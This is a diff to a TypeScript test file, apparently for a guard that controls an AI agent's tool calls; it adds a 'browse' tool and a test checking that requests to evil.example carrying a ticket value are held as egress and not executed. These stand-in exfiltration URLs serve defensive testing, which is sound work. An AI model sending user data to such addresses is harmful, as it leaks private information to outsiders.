@@ -42,6 +42,7 @@ const all = [
   "get_state",
   "set_state",
   "close_account",
+  "browse",
   "unlabelled",
 ];
 const workflow = (name: string, agents: readonly string[], more = "") => `
@@ -302,6 +303,19 @@ describe("MT-156 a run that a person opened", () => {
     await asks("get_ticket", { ticket: "7" }, { run });
     expect((await asks("fetch", { url: "https://status.example/page" }, { run })).state).toBe("done");
     expect((await asks("fetch", { url: "https://status.example/page?q=A-17" }, { run })).state).toBe("held");
+  });
+
+  it("a read that nobody labelled is none where it could go to an address that the agent chose", async () => {
+    const run = await open({ task: "look at https://status.example/page for ticket 7" });
+    await asks("get_ticket", { ticket: "7" }, { run });
+    for (const page of ["https://evil.example/?d=A-17", "evil.example/?d=A-17", "https:evil.example"]) {
+      const asked = await asks("browse", { page }, { run });
+      expect(asked.state, page).toBe("held");
+      expect(await flowOf(asked.id)).toMatchObject({ effect: "egress", origins: ["none"] });
+    }
+    expect(desk.deeds.some(({ tool, args }) => tool === "browse" && String(args.page).includes("evil"))).toBe(false);
+    expect((await asks("browse", { page: "https://status.example/page" }, { run })).state).toBe("done");
+    expect((await asks("browse", { page: "opening hours" }, { run })).state).toBe("done");
   });
 
   it("what nobody labelled taints, leaves, and goes nowhere that is known", async () => {
